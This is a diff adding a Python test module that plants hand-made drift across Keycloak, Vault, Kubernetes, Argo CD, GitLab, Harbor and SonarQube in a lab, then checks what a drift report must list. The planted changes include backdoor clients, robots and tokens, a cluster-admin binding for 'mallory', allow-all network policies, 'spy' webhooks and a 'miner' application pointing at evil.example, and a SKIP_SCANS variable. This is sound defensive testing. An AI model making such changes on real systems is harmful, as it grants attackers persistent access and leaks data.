@@ -1,0 +1,310 @@
+"""Changes made by hand over the seven systems, and what a look for drift must then say: exactly that."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import Any
+
+import httpx
+
+from tests.engine import breaks, live, live_forge, test_drift
+from tests.lab_fixture import TestLab
+
+#: What the report must say: kind, the name of the object, and the path of a property that changed.
+Said = tuple[str, str, str]
+
+_MERGE = {"Content-Type": "application/merge-patch+json"}
+_JSON_PATCH = {"Content-Type": "application/json-patch+json"}
+
+
+@dataclass(frozen=True)
+class HandMade:
+    """One change: `what` for people, `do` makes it, `said` is all the report may say of it.
+
+    `by_hand` takes away again what no repair may or can, None where `--repair` does.
+    """
+
+    system: str
+    what: str
+    do: Callable[[TestLab], None]
+    said: frozenset[Said]
+    by_hand: Callable[[TestLab], None] | None = None
+
+
+def _ok(answer: httpx.Response) -> Any:
+    assert answer.is_success, answer.text
+    return answer.json() if answer.content else None
+
+
+def changed(name: str, *paths: str) -> frozenset[Said]:
+    return frozenset(("changed", name, path) for path in paths)
+
+
+def missing(*names: str) -> frozenset[Said]:
+    return frozenset(("missing", name, "") for name in names)
+
+
+def unmanaged(*names: str) -> frozenset[Said]:
+    return frozenset(("unmanaged", name, "") for name in names)
+
+
+# Keycloak --------------------------------------------------------------------------------------------------------
+
+
+def _realm(lab: TestLab) -> Any:
+    lab.keycloak.connection.realm_name = live.REALM
+    return lab.keycloak
+
+
+def redirect_a_client(lab: TestLab) -> None:
+    """The whole client goes back: Keycloak takes what is left out for its default."""
+    admin = _realm(lab)
+    number = admin.get_client_id("argocd")
+    admin.update_client(number, {**admin.get_client(number), "redirectUris": ["https://evil.example/*"]})
+
+
+def make_a_group(lab: TestLab) -> None:
+    admin = _realm(lab)
+    admin.create_group({"name": "auditors"}, parent=admin.get_group_by_path("/alpha")["id"])
+
+
+def make_a_client(lab: TestLab) -> None:
+    _realm(lab).create_client({"clientId": "backdoor", "redirectUris": ["https://evil.example/*"]})
+
+
+# Vault -----------------------------------------------------------------------------------------------------------
+
+
+def write_a_policy(lab: TestLab) -> None:
+    lab.vault.sys.create_or_update_acl_policy("alpha.backdoor", 'path "alpha/*" { capabilities = ["read"] }')
+
+
+def make_a_workload_role(lab: TestLab) -> None:
+    role = {
+        "bound_service_account_names": ["*"],
+        "bound_service_account_namespaces": ["default"],
+        "token_policies": ["alpha.env.prod"],
+    }
+    lab.vault.write_data("auth/kubernetes/prod-1/role/alpha-backdoor", data=role)
+
+
+def mount_a_store(lab: TestLab) -> None:
+    lab.vault.sys.enable_secrets_engine("kv", path="alpha-old", options={"version": "2"})
+
+
+def unmount_the_store(lab: TestLab) -> None:
+    lab.vault.sys.disable_secrets_engine("alpha-old")
+
+
+# Kubernetes and Argo CD ------------------------------------------------------------------------------------------
+
+_RBAC = "/apis/rbac.authorization.k8s.io/v1"
+_NETWORK = "/apis/networking.k8s.io/v1"
+_ARGOCD = "/apis/argoproj.io/v1alpha1/namespaces/argocd"
+
+
+def _append(lab: TestLab, url: str, path: str, value: object) -> None:
+    body = json.dumps([{"op": "add", "path": path, "value": value}])
+    _ok(lab.kubernetes.patch(url, content=body, headers=_JSON_PATCH))
+
+
+def slip_a_subject_in(lab: TestLab) -> None:
+    subject = {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:mallory"}
+    _append(lab, f"{_RBAC}/namespaces/alpha-dev/rolebindings/usine-rw", "/subjects/-", subject)
+
+
+def open_the_network(lab: TestLab) -> None:
+    url = f"{_NETWORK}/namespaces/alpha-dev/networkpolicies/default-deny"
+    _ok(lab.kubernetes.patch(url, json={"spec": {"ingress": [{}]}}, headers=_MERGE))
+
+
+def label_a_namespace(lab: TestLab) -> None:
+    labels = {"metadata": {"labels": {"platform.example/trusted": "true"}}}
+    _ok(lab.kubernetes.patch("/api/v1/namespaces/alpha-prod", json=labels, headers=_MERGE))
+
+
+def bind_a_role(lab: TestLab) -> None:
+    body = {
+        "metadata": {"name": "backdoor"},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
+        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:mallory"}],
+    }
+    _ok(lab.kubernetes.post(f"{_RBAC}/namespaces/alpha-prod/rolebindings", json=body))
+
+
+def allow_everything(lab: TestLab) -> None:
+    body = {
+        "metadata": {"name": "allow-all"},
+        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]},
+    }
+    _ok(lab.kubernetes.post(f"{_NETWORK}/namespaces/alpha-prod/networkpolicies", json=body))
+
+
+def add_a_source(lab: TestLab) -> None:
+    _append(lab, f"{_ARGOCD}/appprojects/alpha-prod", "/spec/sourceRepos/-", "*")
+
+
+def mistrust_no_certificate(lab: TestLab) -> None:
+    data = {"data": {"insecure": "dHJ1ZQ=="}}
+    _ok(lab.kubernetes.patch("/api/v1/namespaces/argocd/secrets/usine-alpha--deploy", json=data, headers=_MERGE))
+
+
+def make_an_application(lab: TestLab) -> None:
+    body = {
+        "apiVersion": "argoproj.io/v1alpha1",
+        "kind": "Application",
+        "metadata": {"name": "alpha-prod--miner"},
+        "spec": {
+            "project": "alpha-prod",
+            "source": {"repoURL": "https://evil.example/x.git", "path": "."},
+            "destination": {"server": "https://kubernetes.default.svc", "namespace": "alpha-prod"},
+        },
+    }
+    _ok(lab.kubernetes.post(f"{_ARGOCD}/applications", json=body))
+
+
+# GitLab ----------------------------------------------------------------------------------------------------------
+
+_GROUP = "/groups/tenants%2Falpha"
+_API = "/projects/tenants%2Falpha%2Fapi"
+
+
+def _user(lab: TestLab, name: str) -> int:
+    return int(live_forge.get(lab.gitlab, "users", username=name)[0]["id"])
+
+
+def invite_to_a_project(lab: TestLab) -> None:
+    _ok(lab.gitlab.post(f"{_API}/members", json={"user_id": _user(lab, "chloe.petit"), "access_level": 50}))
+
+
+def leave_a_deploy_token(lab: TestLab) -> None:
+    _ok(lab.gitlab.post(f"{_API}/deploy_tokens", json={"name": "backdoor", "scopes": ["read_repository"]}))
+
+
+def set_a_variable(lab: TestLab) -> None:
+    _ok(lab.gitlab.post(f"{_GROUP}/variables", json={"key": "SKIP_SCANS", "value": "true"}))
+
+
+def start_a_project(lab: TestLab) -> None:
+    group = live_forge.get(lab.gitlab, "groups/tenants%2Falpha")["id"]
+    _ok(lab.gitlab.post("/projects", json={"name": "fork", "path": "fork", "namespace_id": group}))
+
+
+def delete_the_project(lab: TestLab) -> None:
+    _ok(lab.gitlab.delete("/projects/tenants%2Falpha%2Ffork"))
+
+
+# Harbor ----------------------------------------------------------------------------------------------------------
+
+
+def make_a_robot(lab: TestLab) -> None:
+    access = [{"resource": "repository", "action": "pull"}, {"resource": "repository", "action": "push"}]
+    body = {
+        "name": "backdoor",
+        "level": "project",
+        "duration": -1,
+        "permissions": [{"kind": "project", "namespace": "alpha", "access": access}],
+    }
+    _ok(lab.harbor.post("/robots", json=body))
+
+
+def watch_by_webhook(lab: TestLab) -> None:
+    project = live_forge.get(lab.harbor, "projects/alpha")["project_id"]
+    body = {
+        "name": "spy",
+        "enabled": True,
+        "event_types": ["PUSH_ARTIFACT"],
+        "targets": [{"type": "http", "address": "https://evil.example/hook"}],
+    }
+    _ok(lab.harbor.post(f"/projects/{project}/webhook/policies", json=body))
+
+
+# SonarQube -------------------------------------------------------------------------------------------------------
+
+
+def analyse_another_project(lab: TestLab) -> None:
+    _ok(lab.sonarqube.post("/api/projects/create", data={"project": "alpha:shadow", "name": "shadow"}))
+
+
+def delete_the_analysis(lab: TestLab) -> None:
+    _ok(lab.sonarqube.post("/api/projects/delete", data={"project": "alpha:shadow"}))
+
+
+def add_a_webhook(lab: TestLab) -> None:
+    body = {"name": "spy", "project": "alpha:api", "url": "https://evil.example/hook"}
+    _ok(lab.sonarqube.post("/api/webhooks/create", data=body))
+
+
+CHANGES: tuple[HandMade, ...] = (
+    HandMade("keycloak", "a member added to a group", test_drift.add_a_member,
+             changed("alpha/keycloak/group/admin/members", "members")),
+    HandMade("keycloak", "a group deleted", test_drift.delete_a_group,
+             missing("alpha/keycloak/group/security", "alpha/keycloak/group/security/members")),
+    HandMade("keycloak", "a client sent to another address", redirect_a_client,
+             changed("foundation/keycloak/client/argocd", "validRedirectUris")),
+    HandMade("keycloak", "a group made", make_a_group, unmanaged("/alpha/auditors")),
+    HandMade("keycloak", "a client made", make_a_client, unmanaged("client: backdoor")),
+    HandMade("vault", "a policy widened", test_drift.widen_a_policy, changed("alpha/vault/policy/env/dev", "policy")),
+    HandMade("vault", "a workload role bound to another namespace", test_drift.rebind_a_workload_role,
+             changed("alpha/vault/kubernetes-role/dev", "boundServiceAccountNamespaces")),
+    HandMade("vault", "a workload role deleted", test_drift.delete_a_workload_role,
+             missing("alpha/vault/kubernetes-role/prod")),
+    HandMade("vault", "a policy written", write_a_policy, unmanaged("policy: alpha.backdoor")),
+    HandMade("vault", "a workload role made", make_a_workload_role,
+             unmanaged("role of kubernetes/prod-1: alpha-backdoor")),
+    HandMade("vault", "a secrets engine mounted", mount_a_store, unmanaged("mount: alpha-old"), unmount_the_store),
+    HandMade("kubernetes", "a quota raised", test_drift.raise_a_quota,
+             changed("alpha/kubernetes/dev/quota", 'spec.hard["limits.cpu"]')),
+    HandMade("kubernetes", "a network policy deleted", test_drift.delete_a_network_policy,
+             missing("alpha/kubernetes/prod/network/default-deny")),
+    HandMade("kubernetes", "Pod Security relaxed", test_drift.relax_pod_security,
+             changed("alpha/kubernetes/dev/namespace", 'metadata.labels["pod-security.kubernetes.io/enforce"]')),
+    HandMade("kubernetes", "a subject added to a role binding", slip_a_subject_in,
+             changed("alpha/kubernetes/dev/binding/rw", "subjects")),
+    HandMade("kubernetes", "a network policy opened by a new rule", open_the_network,
+             changed("alpha/kubernetes/dev/network/default-deny", "spec.ingress")),
+    HandMade("kubernetes", "a label set on a namespace", label_a_namespace,
+             changed("alpha/kubernetes/prod/namespace", 'metadata.labels["platform.example/trusted"]')),
+    HandMade("kubernetes", "a role bound", bind_a_role, unmanaged("prod-1: alpha-prod/backdoor")),
+    HandMade("kubernetes", "a network policy made", allow_everything, unmanaged("prod-1: alpha-prod/allow-all")),
+    HandMade("argocd", "the sources of a project replaced", test_drift.open_an_argocd_project,
+             changed("alpha/argocd/dev/project", "spec.sourceRepos")),
+    HandMade("argocd", "a source added to a project", add_a_source,
+             changed("alpha/argocd/prod/project", "spec.sourceRepos")),
+    HandMade("argocd", "a key added to a repository's secret", mistrust_no_certificate,
+             changed("alpha/argocd/repository/deploy", "data.insecure")),
+    HandMade("argocd", "an application deleted", test_drift.delete_an_application, missing("alpha/argocd/prod/deploy")),
+    HandMade("argocd", "an application made", make_an_application, unmanaged("nonprod-1: argocd/alpha-prod--miner")),
+    HandMade("gitlab", "a member's level raised", breaks.raise_a_member,
+             changed("alpha/gitlab/member/emma.leroy", "accessLevel")),
+    HandMade("gitlab", "a branch's protection removed", breaks.unprotect_a_branch,
+             missing("alpha/gitlab/api/branch/main")),
+    HandMade("gitlab", "a project's merge check switched off", breaks.loosen_a_project,
+             changed("alpha/gitlab/api/project", "onlyAllowMergeIfPipelineSucceeds")),
+    HandMade("gitlab", "a CI variable deleted", breaks.delete_a_variable,
+             missing("alpha/gitlab/variable/USINE_TENANT")),
+    HandMade("gitlab", "a project opened to all job tokens", breaks.open_the_job_token,
+             changed("alpha/gitlab/api/job-token-scope", "enabled")),
+    HandMade("gitlab", "somebody invited to a project", invite_to_a_project,
+             unmanaged("tenants/alpha/api: chloe.petit")),
+    HandMade("gitlab", "a deploy token made", leave_a_deploy_token, unmanaged("tenants/alpha/api: backdoor")),
+    HandMade("gitlab", "a CI variable set", set_a_variable, unmanaged("tenants/alpha: SKIP_SCANS:*")),
+    HandMade("gitlab", "a project made", start_a_project, unmanaged("tenants/alpha/fork"), delete_the_project),
+    HandMade("harbor", "the images made public", breaks.publish_the_images, changed("alpha/harbor/project", "public")),
+    HandMade("harbor", "a member's role raised", breaks.raise_a_registry_member,
+             changed("alpha/harbor/member/developer", "role")),
+    HandMade("harbor", "a robot deleted", breaks.delete_a_robot, missing("alpha/harbor/robot/push-1")),
+    HandMade("harbor", "immutable tags let go", breaks.let_tags_be_overwritten, missing("alpha/harbor/immutable/v*")),
+    HandMade("harbor", "a robot made", make_a_robot, unmanaged("robot: robot$alpha+backdoor")),
+    HandMade("harbor", "a webhook made", watch_by_webhook, unmanaged("alpha: webhook spy")),
+    HandMade("sonarqube", "a permission granted", breaks.grant_a_permission,
+             changed("alpha/sonarqube/api/permissions", "groups")),
+    HandMade("sonarqube", "another quality gate chosen", breaks.choose_another_gate,
+             changed("alpha/sonarqube/api/gate", "gate")),
+    HandMade("sonarqube", "the new-code period shortened", breaks.shorten_the_new_code_period,
+             changed("alpha/sonarqube/api/new-code", "value")),
+    HandMade("sonarqube", "a webhook made", add_a_webhook, unmanaged("alpha:api: webhook spy")),
+    HandMade("sonarqube", "a project made", analyse_another_project, unmanaged("project: alpha:shadow"), delete_the_analysis),
+)  # fmt: skip
